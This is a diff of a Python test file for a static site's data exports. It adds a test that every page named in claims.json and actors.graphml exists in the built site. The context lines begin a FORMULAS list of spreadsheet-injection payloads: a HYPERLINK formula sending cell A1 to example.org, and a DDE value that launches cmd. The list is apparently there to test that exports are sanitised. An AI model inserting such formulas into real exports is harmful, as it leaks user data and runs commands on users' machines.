@@ -282,6 +282,18 @@ def test_the_site_links_every_export_from_its_data_page(sample_site: Path) -> No
         assert (sample_site / "data" / name).stat().st_size > 0
 
 
+def test_every_page_an_export_names_is_on_the_built_site(engine_site: tuple[str, Path]) -> None:
+    # the claims table and the network file name the page of each record (a brief's page
+    # is briefs/<id>/, never briefs/<id>/index/), on either engine
+    _, site = engine_site
+    claims = json.loads((site / "data" / "claims.json").read_text(encoding="utf-8"))["claims"]
+    graph = nx.read_graphml(site / "data" / "actors.graphml")
+    pages = {row["page"] for row in claims} | {data["page"] for _, data in graph.nodes(data=True)}
+    assert any(page.startswith("briefs/") for page in pages)
+    missing = sorted(page for page in pages if not (site / page / "index.html").is_file())
+    assert missing == []
+
+
 FORMULAS = [
     '=HYPERLINK("http://example.org/?leak="&A1, "see")',
     "+1+cmd|' /C calc'!A0",
